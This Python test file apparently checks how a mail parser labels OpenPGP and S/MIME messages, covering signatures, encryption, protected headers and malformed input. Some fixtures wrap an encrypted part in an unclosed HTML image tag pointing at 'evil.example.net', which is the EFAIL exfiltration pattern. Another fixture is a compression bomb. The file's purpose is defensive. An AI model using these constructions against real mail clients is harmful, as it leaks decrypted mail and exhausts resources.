# SPDX-License-Identifier: Apache-2.0
"""OpenPGP and S/MIME: what is signed, encrypted, neither, and by whom."""
from corpus import (TN, by, cipher, clear, crlf, detached, entity, gpg, inner,
                    mail, multi, part, raw, sealed, shape, signed, text, to)

PAST = ('--faked-system-time', '20240301T000000')
FOUND = f'tn {TN} body:1:1'

# ---- signed by MIME ---------------------------------------------------------

GOOD = f'''label signed
part 1 text/plain sig=desk:good
{FOUND}'''
WRONG = f'''label signed
part 1 text/plain sig=%s
{FOUND}
problem bad-signature'''

shape('signed', mail(signed(text())), GOOD)
shape('signed-crlf', crlf(mail(signed(text()))), GOOD)
shape('signed-micalg-wrong', mail(signed(text(), micalg='pgp-md5')), GOOD)
shape('signed-micalg-missing', mail(signed(text(), micalg=None)), GOOD)
shape('signed-micalg-nonsense', mail(signed(text(), micalg='"x y"')), GOOD)
shape('signed-protocol-capitals',
      mail(signed(text(), protocol='APPLICATION/PGP-SIGNATURE')), GOOD)
shape('signed-tampered', mail(signed(
    text(TN), signature=detached(text('JPCERT#91230002'), 'desk'))),
      WRONG % 'desk:bad')
shape('signed-by-another', mail(signed(text(), 'other')),
      GOOD.replace('desk', 'other'))
shape('signed-by-a-stranger', mail(signed(text(), 'stranger')),
      WRONG % 'stranger:unknown-key')
shape('signed-by-an-expired-key', mail(signed(text(), 'old', options=PAST)),
      WRONG % 'old:expired')
shape('signed-by-a-revoked-key', mail(signed(text(), 'gone')),
      WRONG % 'gone:revoked')
shape('signature-expired', mail(signed(
    text(), options=(*PAST, '--default-sig-expire', '2024-04-01'))),
      WRONG % 'desk:expired')
shape('signed-by-two', mail(signed(text(), 'desk', 'other')), f'''
label signed
part 1 text/plain sig=desk:good sig=other:good
{FOUND}''')
shape('signed-by-one-known-one-not',
      mail(signed(text(), 'desk', 'stranger')), f'''
label signed
part 1 text/plain sig=desk:good sig=stranger:unknown-key
{FOUND}
problem bad-signature''')
shape('signed-trailing-blanks-and-from', mail(signed(
    text(f'From {TN} \n-- \nx\t\n'))), '''
label signed
part 1 text/plain sig=desk:good From JPCERT#91230001 \\n-- \\nx\\t\\n
tn JPCERT#91230001 body:1:1''')
shape('signed-base64', mail(signed(text(cte='base64'))), GOOD)
shape('signature-in-base64', mail(multi(
    'signed', text(), text(detached(text(), 'desk'), cte='base64',
                           kind='application/pgp-signature', charset=None),
    params='; protocol="application/pgp-signature"')), GOOD)
shape('signature-empty', mail(signed(text(), signature=b'\n')),
      WRONG % 'None:error')
shape('signature-is-text', mail(signed(text(), signature=b'good\n')),
      WRONG % 'None:error')
shape('signature-is-a-key', mail(signed(
    text(), signature=gpg('', '--export', by('desk')[1]))),
      WRONG % 'None:error')
shape('signature-is-a-signed-message', mail(signed(
    text(), signature=gpg('good', *by('desk'), '--sign'))),
      WRONG % 'None:error')
shape('signature-is-clear-signed', mail(signed(
    text(), signature=clear(text(), 'desk'))), WRONG % 'None:error')
shape('signature-of-another-type', mail(multi(
    'signed', text(), entity('Content-Type: application/octet-stream',
                             detached(text(), 'desk')),
    params='; protocol="application/pgp-signature"')), WRONG % 'None:error')
shape('signature-twice', mail(signed(text(), more=(entity(
    'Content-Type: application/pgp-signature',
    detached(text(), 'other')),))), f'''
label mixed
part 1 text/plain sig=desk:good
part 3 application/pgp-signature -
{FOUND}''')
shape('signed-part-and-a-third', mail(signed(
    text(), more=(text('JPCERT#66666666'),))), f'''
label mixed
part 1 text/plain sig=desk:good
part 3 text/plain JPCERT#66666666
{FOUND}
tn JPCERT#66666666 body:3:1
ambiguous tn''')
shape('signed-one-part-only', mail(multi(
    'signed', text(), params='; protocol="application/pgp-signature"')), f'''
label plain
part 1 text/plain
{FOUND}
problem unknown-protocol''')
shape('signed-parts-swapped', mail(multi(
    'signed', entity('Content-Type: application/pgp-signature',
                     detached(text(), 'desk')), text(),
    params='; protocol="application/pgp-signature"')), '''
label signed
part 1 application/pgp-signature sig=None:error -
problem bad-signature''')
shape('signed-no-protocol', mail(multi(
    'signed', text(), entity('Content-Type: application/pgp-signature',
                             detached(text(), 'desk')))), f'''
label plain
part 1 text/plain
part 2 application/pgp-signature -
{FOUND}
problem unknown-protocol''')
shape('signed-in-a-list-with-footer', mail(multi(
    'mixed', signed(text()), text('list footer', charset=None))), f'''
label mixed
part 1.1 text/plain sig=desk:good
part 2 text/plain list footer
tn {TN} body:1.1:1''')
shape('signed-alternative', mail(signed(multi(
    'alternative', text(), text('<b>x</b>', kind='text/html')))), f'''
label signed
part 1.1 text/plain sig=desk:good
part 1.2 text/html sig=desk:good -
tn {TN} body:1.1:1''')
shape('signed-with-preamble-and-epilogue', mail(multi(
    'signed', text(), entity('Content-Type: application/pgp-signature',
                             detached(text(), 'desk')),
    params='; protocol="application/pgp-signature"',
    preamble=b'JPCERT#66666666\n', epilogue=b'JPCERT#66666666\n')), GOOD)
shape('signed-again', mail(signed(signed(text()), 'other')), f'''
label signed
part 1.1 text/plain sig=desk:good sig=other:good
tn {TN} body:1.1:1''')
shape('signed-again-outer-bad', mail(signed(
    signed(text()), signature=detached('x', 'other'))), f'''
label signed
part 1.1 text/plain sig=desk:good sig=other:bad
tn {TN} body:1.1:1
problem bad-signature''')
shape('signed-message-forwarded', mail(multi(
    'mixed', text('see below'), inner(signed(text())))), f'''
label mixed
part 1 text/plain see below
part 2 message/rfc822 -
part 2.1 text/plain fwd sig=desk:good
tn {TN} body:2.1:1 quoted''')
shape('forward-signed', mail(signed(multi(
    'mixed', text('see below'), inner(text())), 'other')), f'''
label signed
part 1.1 text/plain sig=other:good see below
part 1.2 message/rfc822 sig=other:good -
part 1.2.1 text/plain fwd sig=other:good
tn {TN} body:1.2.1:1 quoted''')

# ---- encrypted by MIME ------------------------------------------------------

OPEN = f'''label encrypted
part 1 text/plain enc
{FOUND}'''
BOTH = f'''label encrypted-signed
part 1 text/plain enc sig=desk:good
{FOUND}'''
CLOSED = '''label encrypted
part 1 multipart/encrypted enc -
problem %s'''

shape('encrypted', mail(sealed(text())), OPEN)
shape('encrypted-crlf', crlf(mail(sealed(text()))), OPEN)
shape('encrypted-and-signed', mail(sealed(text(), sign=('desk',))), BOTH)
shape('encrypted-and-signed-by-two', mail(sealed(
    text(), sign=('desk', 'other'))), BOTH.replace(
        'desk:good', 'desk:good sig=other:good'))
shape('encrypted-and-signed-by-a-stranger',
      mail(sealed(text(), sign=('stranger',))),
      BOTH.replace('desk:good', 'stranger:unknown-key') +
      '\nproblem bad-signature')
shape('encrypted-and-signed-by-a-revoked-key',
      mail(sealed(text(), sign=('gone',))),
      BOTH.replace('desk:good', 'gone:revoked') + '\nproblem bad-signature')
shape('signed-then-encrypted', mail(sealed(signed(text()))), BOTH)
shape('signed-tampered-then-encrypted', mail(sealed(signed(
    text(), signature=detached('x', 'desk')))),
      BOTH.replace('good', 'bad') + '\nproblem bad-signature')
shape('encrypted-then-signed', mail(signed(sealed(text()))), BOTH)
shape('encrypted-twice', mail(sealed(sealed(text()))), OPEN)
shape('encrypted-to-several', mail(sealed(text(), 'other', 'reader')), OPEN)
shape('encrypted-to-hidden', mail(sealed(
    text(), options=('--throw-keyids',))), OPEN)
shape('encrypted-uncompressed', mail(sealed(
    text(), options=('-z', '0'))), OPEN)
shape('encrypted-bzip2', mail(sealed(
    text(), options=('--compress-algo', 'bzip2'))), OPEN)
shape('encrypted-binary-in-base64', mail(multi(
    'encrypted', entity('Content-Type: application/pgp-encrypted',
                        'Version: 1'),
    text(gpg(text(), *to('reader'), '--no-armor', '--encrypt'),
         cte='base64', kind='application/octet-stream', charset=None),
    params='; protocol="application/pgp-encrypted"')), OPEN)
shape('encrypted-to-somebody-else', mail(sealed(text(), 'stranger')),
      CLOSED % 'cannot-decrypt')
shape('encrypted-without-mdc', mail(sealed(
    text(), options=('--rfc2440',))), CLOSED % 'no-integrity')
shape('encrypted-cut-off', mail(sealed(
    b'', message=cipher(text())[:250] + b'\n')), CLOSED % 'cannot-decrypt')
shape('encrypted-empty', mail(sealed(b'', message=b'\n')),
      (CLOSED % 'not-encrypted').replace('label encrypted', 'label plain')
      .replace(' enc ', ' '))
shape('encrypted-is-text', mail(sealed(b'', message=b'hello\n')),
      (CLOSED % 'not-encrypted').replace('label encrypted', 'label plain')
      .replace(' enc ', ' '))
shape('encrypted-signed-only', mail(sealed(b'', message=gpg(
    text(), *by('desk'), '--sign'))),
      (CLOSED % 'not-encrypted').replace('label encrypted', 'label plain')
      .replace(' enc ', ' '))
shape('encrypted-no-version', mail(sealed(text(), version='')), OPEN)
shape('encrypted-other-version', mail(sealed(text(), version='Version: 2')),
      OPEN)
shape('encrypted-third-part', mail(sealed(
    text(), more=(text('JPCERT#66666666'),))), f'''
label mixed
part 1 application/pgp-encrypted -
part 2 text/plain enc
part 3 text/plain JPCERT#66666666
tn {TN} body:2:1
tn JPCERT#66666666 body:3:1
ambiguous tn
problem unknown-protocol''')
shape('encrypted-content-is-no-mime', mail(sealed(
    b'', message=cipher('no header here\n'))), '''
label encrypted
part 1 text/plain enc no header here\\n''')
shape('encrypted-content-is-empty', mail(sealed(b'', message=cipher('\n'))), '''
label encrypted
part 1 text/plain enc''')
shape('encrypted-nothing-at-all', mail(sealed(b'', message=cipher(b''))), '''
label encrypted
part 1 text/plain enc''')
shape('encrypted-with-attachment', mail(sealed(multi(
    'mixed', text(), part('application/pdf', filename='a.pdf')))), f'''
label encrypted
part 1.1 text/plain enc
part 1.2 application/pdf enc att file=a.pdf -
tn {TN} body:1.1:1'''.replace('1.1', '1').replace('1.2', '2'))
shape('encrypted-forward', mail(sealed(multi(
    'mixed', text('see'), inner(text())))), f'''
label encrypted
part 1 text/plain enc see
part 2 message/rfc822 enc -
part 2.1 text/plain enc fwd
tn {TN} body:2.1:1 quoted''')
shape('encrypted-in-a-forward', mail(multi(
    'mixed', text('see'), inner(sealed(text())))), f'''
label mixed
part 1 text/plain see
part 2 message/rfc822 -
part 2.1 text/plain enc fwd
tn {TN} body:2.1:1 quoted''')

# ---- what others put beside it ----------------------------------------------

shape('efail-html-around', mail(multi(
    'mixed', text('<img src="http://evil.example.net/', kind='text/html'),
    sealed(text()), text('">', kind='text/html'))), f'''
label mixed
part 1 text/html -
part 2 text/plain enc
part 3 text/html -
tn {TN} body:2:1''')
shape('efail-text-around', mail(multi(
    'mixed', text('JPCERT#66666666'), sealed(text()), text('after'))), f'''
label mixed
part 1 text/plain JPCERT#66666666
part 2 text/plain enc
part 3 text/plain after
tn JPCERT#66666666 body:1:1
tn {TN} body:2:1
ambiguous tn''')
shape('efail-in-related', mail(multi(
    'related', text('<p>', kind='text/html'), sealed(text()))), f'''
label mixed
part 1 text/html -
part 2 text/plain enc
tn {TN} body:2:1''')
shape('efail-in-alternative', mail(multi(
    'alternative', sealed(text()), text('<p>', kind='text/html'))), f'''
label mixed
part 1 text/plain enc
part 2 text/html -
tn {TN} body:1:1''')
shape('efail-in-preamble', mail(multi(
    'mixed', text('x'), preamble=sealed(text()))), '''
label plain
part 1 text/plain x''')
shape('efail-encrypted-html', mail(sealed(text(
    '<img src="http://evil.example.net/">', kind='text/html'))), '''
label encrypted
part 1 text/html enc -
problem html-only''')
shape('signed-beside-unsigned-of-the-same-kind', mail(multi(
    'mixed', text('JPCERT#66666666'), signed(text()))), f'''
label mixed
part 1 text/plain JPCERT#66666666
part 2.1 text/plain sig=desk:good
tn JPCERT#66666666 body:1:1
tn {TN} body:2.1:1
ambiguous tn''')
shape('signed-as-attachment', mail(multi(
    'mixed', text('JPCERT#66666666'), signed(text()).replace(
        b'\n\n', b'\nContent-Disposition: attachment; filename=a\n\n', 1))),
      f'''
label mixed
part 1 text/plain JPCERT#66666666
part 2.1 text/plain sig=desk:good
tn JPCERT#66666666 body:1:1
tn {TN} body:2.1:1
ambiguous tn''')

# ---- mangled on the way -----------------------------------------------------

shape('exchange-mixed-instead-of-encrypted', mail(multi(
    'mixed', text('', charset=None),
    entity('Content-Type: application/pgp-encrypted', 'Version: 1'),
    part('application/octet-stream', cipher(text()), 'encrypted.asc'))), f'''
label mixed
part 1 text/plain
part 2 application/pgp-encrypted -
part 3 text/plain enc
tn {TN} body:3:1''')
shape('encrypted-file-attached', mail(multi(
    'mixed', text(), part('application/octet-stream',
                          cipher('secret'), 'report.txt.pgp'))), f'''
label mixed
part 1 text/plain
part 2 application/octet-stream enc att file=report.txt.pgp secret
tn {TN} body:1:1''')
shape('encrypted-file-to-somebody-else', mail(multi(
    'mixed', text(), part('application/pgp-encrypted', cipher(
        'secret', 'stranger'), 'report.txt.asc'))), f'''
label mixed
part 1 text/plain
part 2 application/pgp-encrypted enc att file=report.txt.asc -
tn {TN} body:1:1
problem cannot-decrypt''')
shape('public-key-attached', mail(multi(
    'mixed', text(), part('application/pgp-keys', gpg(
        '', '--export', by('desk')[1]), 'key.asc'))), f'''
label plain
part 1 text/plain
part 2 application/pgp-keys att file=key.asc -
tn {TN} body:1:1''')

# ---- protected headers ------------------------------------------------------

HIDDEN = f'''label encrypted
subject ...
protected subject {TN}
part 1 text/plain enc x
tn {TN} protected:subject'''

shape('protected-subject', mail(sealed(
    b'Subject: JPCERT#91230001\n' + text('x', params='; protected-headers=v1')),
    Subject='...'), HIDDEN)
shape('protected-subject-rfc-9788', mail(sealed(
    b'Subject: JPCERT#91230001\n' + text('x', params='; hp="cipher"')),
    Subject='[...]'), HIDDEN.replace('subject ...', 'subject [...]'))
shape('protected-subject-not-marked', mail(sealed(
    b'Subject: JPCERT#91230001\n' + text('x')), Subject='...'), '''
label encrypted
subject ...
part 1 text/plain enc x''')
shape('protected-subject-differs', mail(sealed(
    b'Subject: JPCERT#91230001\n' + text('x', params='; protected-headers=v1')),
    Subject='JPCERT#66666666'), f'''
label encrypted
subject JPCERT#66666666
protected subject {TN}
part 1 text/plain enc x
tn JPCERT#66666666 subject
tn {TN} protected:subject
ambiguous tn
problem protected-header-differs''')
shape('protected-from-differs', mail(sealed(
    b'From: Other <other@jpcert.example.org>\n' + text(
        params='; protected-headers=v1'))), f'''
label encrypted
protected from Other <other@jpcert.example.org>
part 1 text/plain enc
{FOUND}
problem protected-header-differs''')
shape('protected-multipart-signed-and-encrypted', mail(sealed(multi(
    'mixed', text('x'), text('y'), params='; protected-headers="v1"').replace(
        b'Content-Type', b'Subject: JPCERT#91230001\nContent-Type', 1),
    sign=('desk',)), Subject='Encrypted Message'), f'''
label encrypted-signed
subject Encrypted Message
protected subject {TN}
part 1 text/plain enc sig=desk:good x
part 2 text/plain enc sig=desk:good y
tn {TN} protected:subject''')
shape('protected-when-signed-only', mail(signed(
    b'Subject: mail\n' + text(params='; protected-headers="v1"'))), f'''
label signed
protected subject mail
part 1 text/plain sig=desk:good
{FOUND}''')
shape('protected-in-a-forward', mail(multi('mixed', text('x'), inner(sealed(
    b'Subject: JPCERT#66666666\n' + text(params='; protected-headers=v1'))))),
      f'''
label mixed
part 1 text/plain x
part 2 message/rfc822 -
part 2.1 text/plain enc fwd
tn {TN} body:2.1:1 quoted''')

# ---- within the text --------------------------------------------------------

CLEAR = f'''label inline-signed
part 1 text/plain sig=desk:good
{FOUND}'''

shape('clear-signed', mail(text(clear(TN))), CLEAR)
shape('clear-signed-crlf', crlf(mail(text(clear(TN)))), CLEAR)
shape('clear-signed-base64', mail(text(clear(TN), cte='base64')), CLEAR)
shape('clear-signed-quoted-printable', mail(text(
    clear(TN), cte='quoted-printable')), CLEAR)
shape('clear-signed-trailing-blanks', mail(text(b'\n'.join(
    line + b'  ' if line.startswith(b'---') else line
    for line in clear(TN).split(b'\n')))), CLEAR)
shape('clear-signed-tampered', mail(text(
    clear('JPCERT#91230002').replace(b'0002', b'0001'))),
      CLEAR.replace('good', 'bad') + '\nproblem bad-signature')
shape('clear-signed-by-a-stranger', mail(text(clear(TN, 'stranger'))),
      CLEAR.replace('desk:good', 'stranger:unknown-key') +
      '\nproblem bad-signature')
shape('clear-signed-twice', mail(text(clear(TN) + clear('two', 'other'))), f'''
label inline-signed
part 1/1 text/plain sig=desk:good
part 1/2 text/plain sig=other:good two\\n
tn {TN} body:1/1:1''')
shape('clear-signed-amid-text', mail(text(
    b'JPCERT#66666666\n' + clear(TN) + b'after\n')), f'''
label mixed
part 1/1 text/plain JPCERT#66666666\\n
part 1/2 text/plain sig=desk:good
part 1/3 text/plain after\\n
tn JPCERT#66666666 body:1/1:1
tn {TN} body:1/2:1
ambiguous tn''')
shape('clear-signed-lines-among-its-headers', mail(text(clear(TN).replace(
    b'\n\n', b'\nJPCERT#66666666\n\n', 1))), '''
label inline-signed
part 1 text/plain sig=desk:bad
tn JPCERT#91230001 body:1:2
problem bad-signature''')
shape('clear-signed-dashes', mail(text(clear(f'- x\n{TN}\n'))), f'''
label inline-signed
part 1 text/plain sig=desk:good - x\\n{TN}\\n
tn {TN} body:1:2''')
shape('clear-signed-without-end', mail(text(
    clear(TN).split(b'-----BEGIN PGP SIGNATURE')[0])), '''
label plain
part 1 text/plain -----BEGIN PGP SIGNED MESSAGE
tn JPCERT#91230001 body:1:4''')
shape('clear-signed-and-quoted', mail(text(b''.join(
    b'> ' + line + b'\n' for line in clear(TN).splitlines()))), '''
label plain
part 1 text/plain > -----BEGIN PGP SIGNED MESSAGE
tn JPCERT#91230001 body:1:4 quoted''')
shape('clear-signed-in-jis', mail(text(clear(
    '番号 JPCERT#91230001'.encode('iso2022_jp')), charset='iso-2022-jp')), '''
label inline-signed
part 1 text/plain sig=desk:good 番号 JPCERT#91230001\\n
tn JPCERT#91230001 body:1:1''')
shape('clear-signed-flowed', mail(text(
    clear(TN), params='; format=flowed')), CLEAR)

INLINE = f'''label inline-encrypted
part 1 text/plain enc
{FOUND}'''

shape('inline-encrypted', mail(text(cipher(TN))), INLINE)
shape('inline-encrypted-crlf', crlf(mail(text(cipher(TN)))), INLINE)
shape('inline-encrypted-jis', mail(text(cipher(
    '番号 JPCERT#91230001'.encode('iso2022_jp')), charset='iso-2022-jp')), '''
label inline-encrypted
part 1 text/plain enc 番号 JPCERT#91230001
tn JPCERT#91230001 body:1:1''')
shape('inline-encrypted-and-signed', mail(text(cipher(TN, sign=('desk',)))),
      INLINE.replace('enc\n', 'enc sig=desk:good\n'))
shape('inline-encrypted-comment', mail(text(cipher(
    TN, options=('--comment', 'x')))), INLINE)
shape('inline-encrypted-to-somebody-else', mail(text(cipher(
    TN, 'stranger'))), '''
label inline-encrypted
part 1 text/plain enc -
problem cannot-decrypt''')
shape('inline-encrypted-without-mdc', mail(text(cipher(
    TN, options=('--rfc2440',)))), '''
label inline-encrypted
part 1 text/plain enc -
problem no-integrity''')
shape('inline-encrypted-amid-text', mail(text(
    b'before\n' + cipher(TN) + b'JPCERT#66666666\n')), f'''
label mixed
part 1/1 text/plain before\\n
part 1/2 text/plain enc
part 1/3 text/plain JPCERT#66666666\\n
tn {TN} body:1/2:1
tn JPCERT#66666666 body:1/3:1
ambiguous tn''')
shape('inline-encrypted-twice', mail(text(cipher(TN) + cipher('two'))), f'''
label inline-encrypted
part 1/1 text/plain enc
part 1/2 text/plain enc two
tn {TN} body:1/1:1''')
shape('inline-encrypted-then-clear-signed', mail(text(clear(cipher(TN)))), '''
label inline-signed
part 1 text/plain sig=desk:good -----BEGIN PGP MESSAGE
problem not-opened''')
shape('inline-signed-armor', mail(text(gpg(TN, *by('desk'), '--sign'))), CLEAR)
shape('inline-encrypted-in-html', mail(text(
    b'<pre>\n' + cipher(TN) + b'</pre>', kind='text/html')), '''
label plain
part 1 text/html -
problem html-only
problem not-opened''')
shape('inline-public-key', mail(text(gpg('', '--export', by('desk')[1]))), '''
label plain
part 1 text/plain -----BEGIN PGP PUBLIC KEY BLOCK''')
shape('inline-encrypted-cut-off', mail(text(cipher(TN)[:200])), '''
label plain
part 1 text/plain -----BEGIN PGP MESSAGE
problem not-opened''')
shape('inline-encrypted-quoted', mail(text(b''.join(
    b'> ' + line + b'\n' for line in cipher(TN).splitlines()))), '''
label plain
part 1 text/plain > -----BEGIN PGP MESSAGE
problem not-opened''')
shape('inline-encrypted-in-a-forward', mail(multi(
    'mixed', text('see'), inner(text(cipher(TN))))), f'''
label mixed
part 1 text/plain see
part 2 message/rfc822 -
part 2.1 text/plain enc fwd
tn {TN} body:2.1:1 quoted''')

# ---- S/MIME -----------------------------------------------------------------

SMIME = '''label smime
part 1 %s -
problem smime'''

shape('smime-enveloped', mail(entity(
    'Content-Type: application/pkcs7-mime; smime-type=enveloped-data;'
    ' name=smime.p7m', 'MIIB')),
      (SMIME % 'application/pkcs7-mime att file=smime.p7m'))
shape('smime-signed-data', mail(entity(
    'Content-Type: application/x-pkcs7-mime; smime-type=signed-data', 'MIIB')),
      SMIME % 'application/x-pkcs7-mime')
shape('smime-signed', mail(multi(
    'signed', text(), part('application/pkcs7-signature', 'MIIB'),
    params='; protocol="application/pkcs7-signature"; micalg=sha-256')), f'''
label smime
part 1 text/plain
part 2 application/pkcs7-signature -
{FOUND}
problem smime''')
shape('smime-signed-x', mail(multi(
    'signed', text(), part('application/x-pkcs7-signature', 'MIIB'),
    params='; protocol="application/x-pkcs7-signature"; micalg=sha1')), f'''
label smime
part 1 text/plain
part 2 application/x-pkcs7-signature -
{FOUND}
problem smime''')
shape('smime-by-its-name-only', mail(part(
    'application/octet-stream', 'MIIB', 'smime.p7m')), '''
label smime
part 1 application/octet-stream att file=smime.p7m -
problem smime''')
shape('smime-within-openpgp', mail(signed(part(
    'application/pkcs7-mime', 'MIIB'))), '''
label smime
part 1 application/pkcs7-mime sig=desk:good -
problem smime''')
shape('smime-beside-text', mail(multi(
    'mixed', text(), part('application/pkcs7-mime', 'MIIB'))), f'''
label smime
part 1 text/plain
part 2 application/pkcs7-mime -
{FOUND}
problem smime''')

# ---- too much ---------------------------------------------------------------

shape('bomb-of-zeros', mail(sealed(b'', message=cipher(
    b'\0' * 80000000, options=('--compress-algo', 'zlib', '-z', '9')))),
      CLOSED % 'cannot-decrypt')
shape('deep-within-encryption', mail(sealed(
    b''.join(raw(f'Content-Type: multipart/mixed; boundary=d{i}\n\n--d{i}\n')
             for i in range(30)))), 'refused too-deep')
shape('many-armors', mail(text(b''.join([clear('x')] * 25))), '''
label mixed
''' + '\n'.join(f'part 1/{i} text/plain sig=desk:good x\\n'
                for i in range(1, 21)) + '''
part 1/21 text/plain -----BEGIN PGP SIGNED MESSAGE
problem too-many-armors''')
